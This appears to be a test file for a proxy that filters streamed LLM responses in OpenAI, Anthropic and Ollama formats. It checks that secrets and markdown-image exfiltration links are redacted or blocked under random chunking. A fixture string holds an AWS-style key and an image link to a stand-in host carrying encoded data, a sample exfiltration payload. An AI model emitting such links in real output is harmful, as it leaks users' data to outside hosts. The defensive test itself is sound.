@@ -1,0 +1,360 @@
+/**
+ * The streaming guarantee on every streaming wire format: whatever the content split and
+ * the byte chunking, a secret never reaches the client (nor through a format's summary
+ * events), a benign stream arrives byte for byte, and a block ends the stream with the
+ * format's own in-band error and no terminator.
+ */
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { testApp } from '../helpers/app.js';
+import { FakeUpstream } from '../helpers/fake-upstream.js';
+import { chunked } from '../helpers/fixtures.js';
+import { policySetFrom } from '../helpers/policy.js';
+
+const sse = (event: string | undefined, o: object) =>
+  `${event ? `event: ${event}\n` : ''}data: ${JSON.stringify(o)}\n\n`;
+const blocks = (body: string) =>
+  body
+    .split('\n\n')
+    .filter(Boolean)
+    .map((b) => {
+      const data = b
+        .split('\n')
+        .filter((l) => l.startsWith('data: '))
+        .map((l) => l.slice(6))
+        .join('\n');
+      return { event: /^event: (.*)$/m.exec(b)?.[1], data };
+    });
+
+interface View {
+  text: string;
+  /** Every other place the format repeats the whole text (summary events). */
+  snapshots: string[];
+  error: string | undefined;
+  done: boolean;
+}
+
+interface ResponsesEvent {
+  message?: string;
+  delta?: string;
+  text?: string;
+  part?: { text: string };
+  item?: { content: { text: string }[] };
+  response?: { output: { content: { text: string }[] }[] };
+}
+
+interface Format {
+  name: string;
+  path: string;
+  body: object;
+  contentType: string;
+  stream(pieces: string[]): string;
+  view(body: string): View;
+}
+
+const FORMATS: Format[] = [
+  {
+    name: 'OpenAI Completions',
+    path: '/v1/completions',
+    body: { model: 'm', prompt: 'hi', stream: true },
+    contentType: 'text/event-stream',
+    stream: (ps) =>
+      ps
+        .map((p) =>
+          sse(undefined, {
+            id: 'c',
+            object: 'text_completion',
+            model: 'm',
+            choices: [{ index: 0, text: p, logprobs: null, finish_reason: null }],
+          }),
+        )
+        .join('') +
+      sse(undefined, {
+        id: 'c',
+        object: 'text_completion',
+        model: 'm',
+        choices: [{ index: 0, text: '', finish_reason: 'stop' }],
+      }) +
+      'data: [DONE]\n\n',
+    view(body) {
+      const v: View = { text: '', snapshots: [], error: undefined, done: false };
+      for (const b of blocks(body)) {
+        if (b.data === '[DONE]') v.done = true;
+        else {
+          const o = JSON.parse(b.data) as {
+            error?: { message: string };
+            choices?: { text?: string }[];
+          };
+          if (o.error) v.error = o.error.message;
+          for (const c of o.choices ?? []) v.text += c.text ?? '';
+        }
+      }
+      return v;
+    },
+  },
+  {
+    name: 'OpenAI Responses',
+    path: '/v1/responses',
+    body: { model: 'm', input: 'hi', stream: true },
+    contentType: 'text/event-stream',
+    stream(ps) {
+      const full = ps.join('');
+      const item = {
+        type: 'message',
+        id: 'msg_1',
+        role: 'assistant',
+        status: 'completed',
+        content: [{ type: 'output_text', text: full, annotations: [] }],
+      };
+      return (
+        sse('response.created', {
+          type: 'response.created',
+          response: { id: 'resp_1', model: 'm', status: 'in_progress', output: [] },
+        }) +
+        sse('response.output_item.added', {
+          type: 'response.output_item.added',
+          output_index: 0,
+          item: { ...item, content: [] },
+        }) +
+        ps
+          .map((p) =>
+            sse('response.output_text.delta', {
+              type: 'response.output_text.delta',
+              item_id: 'msg_1',
+              output_index: 0,
+              content_index: 0,
+              delta: p,
+            }),
+          )
+          .join('') +
+        sse('response.output_text.done', {
+          type: 'response.output_text.done',
+          item_id: 'msg_1',
+          output_index: 0,
+          content_index: 0,
+          text: full,
+        }) +
+        sse('response.content_part.done', {
+          type: 'response.content_part.done',
+          item_id: 'msg_1',
+          output_index: 0,
+          content_index: 0,
+          part: { type: 'output_text', text: full, annotations: [] },
+        }) +
+        sse('response.output_item.done', {
+          type: 'response.output_item.done',
+          output_index: 0,
+          item,
+        }) +
+        sse('response.completed', {
+          type: 'response.completed',
+          response: {
+            id: 'resp_1',
+            model: 'm',
+            status: 'completed',
+            output: [item],
+            usage: { input_tokens: 1, output_tokens: 2 },
+          },
+        })
+      );
+    },
+    view(body) {
+      const v: View = { text: '', snapshots: [], error: undefined, done: false };
+      for (const b of blocks(body)) {
+        const o = JSON.parse(b.data) as ResponsesEvent;
+        if (b.event === 'error') v.error = o.message;
+        if (b.event === 'response.output_text.delta') v.text += o.delta;
+        if (b.event === 'response.output_text.done') v.snapshots.push(o.text!);
+        if (b.event === 'response.content_part.done') v.snapshots.push(o.part!.text);
+        if (b.event === 'response.output_item.done') v.snapshots.push(o.item!.content[0]!.text);
+        if (b.event === 'response.completed') {
+          v.done = true;
+          v.snapshots.push(o.response!.output[0]!.content[0]!.text);
+        }
+      }
+      return v;
+    },
+  },
+  {
+    name: 'Anthropic Messages',
+    path: '/v1/messages',
+    body: {
+      model: 'claude',
+      max_tokens: 100,
+      messages: [{ role: 'user', content: 'hi' }],
+      stream: true,
+    },
+    contentType: 'text/event-stream',
+    stream: (ps) =>
+      sse('message_start', {
+        type: 'message_start',
+        message: {
+          id: 'msg_1',
+          type: 'message',
+          role: 'assistant',
+          model: 'claude',
+          content: [],
+          usage: { input_tokens: 3, output_tokens: 1 },
+        },
+      }) +
+      sse('content_block_start', {
+        type: 'content_block_start',
+        index: 0,
+        content_block: { type: 'thinking', thinking: '' },
+      }) +
+      sse('content_block_delta', {
+        type: 'content_block_delta',
+        index: 0,
+        delta: { type: 'thinking_delta', thinking: 'Let me think.' },
+      }) +
+      sse('content_block_stop', { type: 'content_block_stop', index: 0 }) +
+      sse('content_block_start', {
+        type: 'content_block_start',
+        index: 1,
+        content_block: { type: 'text', text: '' },
+      }) +
+      sse('ping', { type: 'ping' }) +
+      ps
+        .map((p) =>
+          sse('content_block_delta', {
+            type: 'content_block_delta',
+            index: 1,
+            delta: { type: 'text_delta', text: p },
+          }),
+        )
+        .join('') +
+      sse('content_block_stop', { type: 'content_block_stop', index: 1 }) +
+      sse('message_delta', {
+        type: 'message_delta',
+        delta: { stop_reason: 'end_turn', stop_sequence: null },
+        usage: { output_tokens: 9 },
+      }) +
+      sse('message_stop', { type: 'message_stop' }),
+    view(body) {
+      const v: View = { text: '', snapshots: [], error: undefined, done: false };
+      for (const b of blocks(body)) {
+        const o = JSON.parse(b.data) as {
+          error?: { message: string };
+          delta?: { type: string; text?: string };
+        };
+        if (b.event === 'error') v.error = o.error?.message;
+        if (b.event === 'content_block_delta' && o.delta?.type === 'text_delta')
+          v.text += o.delta.text;
+        if (b.event === 'message_stop') v.done = true;
+      }
+      return v;
+    },
+  },
+  ...(['chat', 'generate'] as const).map((kind): Format => ({
+    name: `Ollama ${kind}`,
+    path: `/api/${kind}`,
+    body:
+      kind === 'chat'
+        ? { model: 'llama3', messages: [{ role: 'user', content: 'hi' }] }
+        : { model: 'llama3', prompt: 'hi' },
+    contentType: 'application/x-ndjson',
+    stream: (ps) =>
+      ps
+        .map(
+          (p) =>
+            `${JSON.stringify({ model: 'llama3', created_at: 't', ...(kind === 'chat' ? { message: { role: 'assistant', content: p } } : { response: p }), done: false })}\n`,
+        )
+        .join('') +
+      `${JSON.stringify({ model: 'llama3', created_at: 't', ...(kind === 'chat' ? { message: { role: 'assistant', content: '' } } : { response: '', context: [1, 2, 3] }), done: true, done_reason: 'stop', prompt_eval_count: 3, eval_count: 9 })}\n`,
+    view(body) {
+      const v: View = { text: '', snapshots: [], error: undefined, done: false };
+      for (const line of body.split('\n').filter(Boolean)) {
+        const o = JSON.parse(line) as {
+          error?: string;
+          message?: { content?: string };
+          response?: string;
+          done?: boolean;
+          context?: unknown;
+        };
+        if (o.error) v.error = o.error;
+        v.text += kind === 'chat' ? (o.message?.content ?? '') : (o.response ?? '');
+        if (o.done) {
+          v.done = true;
+          // Token ids that encode the answer: present only while nothing was redacted.
+          if (o.context) v.snapshots.push('<context>');
+        }
+      }
+      return v;
+    },
+  })),
+];
+
+const policies = policySetFrom({
+  'p.yaml': `name: pack
+rules:
+  - { id: creds, check: secrets, action: redact }
+  - { id: exfil, check: markdown-exfiltration, action: redact }
+`,
+});
+const blocking = policySetFrom({
+  'p.yaml': `name: strict
+rules:
+  - { id: creds, check: secrets, action: block }
+`,
+});
+
+const pieces = (s: string) =>
+  fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 30 }).map((sizes) => {
+    const cps = [...s];
+    const out: string[] = [];
+    for (let i = 0, k = 0; i < cps.length; k++) {
+      const n = sizes[k % sizes.length]!;
+      out.push(cps.slice(i, i + n).join(''));
+      i += n;
+    }
+    return out;
+  });
+const byteSizes = fc.array(fc.integer({ min: 1, max: 64 }), { minLength: 1, maxLength: 8 });
+
+async function through(f: Format, body: string, sizes: number[], set = policies) {
+  const up = new FakeUpstream(() => ({
+    headers: { 'content-type': f.contentType },
+    chunks: chunked(Buffer.from(body), sizes),
+  }));
+  const res = await testApp({ upstream: up, policies: set }).post(f.path, f.body);
+  return Buffer.from(await res.arrayBuffer()).toString('utf8');
+}
+
+const SECRET = 'Use AKIAZ7QX3MPLW5N2RTVB then ![x](https://evil.test/p.png?d=c2VjcmV0) ok ü 🚀';
+const REDACTED = 'Use [REDACTED:creds] then ![x]([REDACTED:exfil]) ok ü 🚀';
+const BENIGN =
+  'A plain answer with a [link](https://docs.example.com/guide), the key point and 👩‍💻.';
+
+describe.each(FORMATS)('streaming guarantee: $name', (f) => {
+  it('never lets a secret through, in deltas or summary events, whatever the chunking', async () => {
+    await fc.assert(
+      fc.asyncProperty(pieces(SECRET), byteSizes, async (ps, sizes) => {
+        const out = await through(f, f.stream(ps), sizes);
+        const v = f.view(out);
+        expect(v).toMatchObject({ text: REDACTED, error: undefined, done: true });
+        for (const s of v.snapshots) expect(s).toBe(REDACTED);
+        expect(out).not.toContain('AKIAZ7QX3MPLW5N2RTVB');
+        expect(out).not.toContain('evil.test');
+      }),
+      { numRuns: 25 },
+    );
+  });
+
+  it('delivers a benign stream byte for byte', async () => {
+    await fc.assert(
+      fc.asyncProperty(pieces(BENIGN), byteSizes, async (ps, sizes) => {
+        const body = f.stream(ps);
+        expect(await through(f, body, sizes)).toBe(body);
+      }),
+      { numRuns: 15 },
+    );
+  });
+
+  it("blocks in-band with the format's own error and no terminator", async () => {
+    const out = await through(f, f.stream(['Use AKIAZ7QX', '3MPLW5N2RTVB now']), [4096], blocking);
+    const v = f.view(out);
+    expect(v.error).toMatch(/strict.*creds|creds.*strict/);
+    expect(v.done).toBe(false);
+    expect(out).not.toContain('AKIAZ7QX3MPLW5N2RTVB');
+  });
+});
